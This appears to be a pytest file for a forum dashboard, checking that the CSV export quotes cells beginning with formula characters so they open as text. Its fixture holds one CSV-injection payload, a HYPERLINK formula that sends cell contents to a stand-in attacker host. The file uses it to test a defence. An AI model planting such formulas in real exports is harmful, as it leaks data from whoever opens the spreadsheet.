"""The dashboard's CSV export cannot carry a spreadsheet formula.

Thread titles are anyone's to write on the forum; a policy team opens the export in a
spreadsheet, where a cell starting with ``=``, ``+``, ``-`` or ``@`` runs as a formula (OWASP
"CSV Injection"). Such a cell is quoted with ``'``; the JSON export keeps the title as it is.
"""

from __future__ import annotations

import csv
import io
import json
import time

import pytest
from flask.testing import FlaskClient

from bridges.model import CategoryID
from bridges.store.store import Store
from bridges.store.tier_records import CategorySecurity
from bridges.store.watch_records import Activity, WatchRecords
from policies.tiers import Tier
from sandbox.forum import SandboxForum
from tests.webhooks.test_dashboard import SECRET, dashboard_config, sign_in
from webhooks.app import create_app
from webhooks.dashboard import spreadsheet_cell

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"rent")'


@pytest.fixture
def client(forum: SandboxForum, store: Store) -> FlaskClient:
    forum.sso.set_secret("porch.test", SECRET)
    forum.add_user("carol", groups=["policy-team"])
    now = time.time()
    store.tiers.save_category(
        CategorySecurity(
            CategoryID(10), "town-square", "Town", False, {"everyone": 1}, Tier.OPEN, now
        )
    )
    WatchRecords(store.db).record(
        Activity(
            watch="housing",
            inbox_id=1,
            at=now - 60,
            thread="topic:1",
            author="mallory",
            terms=("rent",),
            title=FORMULA,
            topic_id=1,
            category_id=10,
            forum_url="http://forum.test/t/1",
            matrix_url="https://matrix.to/#/!town:x/$e",
        )
    )
    return create_app(dashboard_config(forum.base_url), store).test_client()


def test_a_title_that_is_a_formula_is_exported_as_text(
    client: FlaskClient, forum: SandboxForum
) -> None:
    assert sign_in(client, forum, "carol") == 303
    exported = client.get("/watching/w/housing/export.csv")
    assert exported.status_code == 200
    (row,) = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    assert row["title"] == "'" + FORMULA
    assert row["thread"] == "topic:1"
    as_json = json.loads(client.get("/watching/w/housing/export.json").get_data(as_text=True))
    assert as_json["threads"][0]["title"] == FORMULA


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Rents on Market Street", "Rents on Market Street"),
        (16, 16),
    ],
)
def test_cells(value: object, cell: object) -> None:
    assert spreadsheet_cell(value) == cell
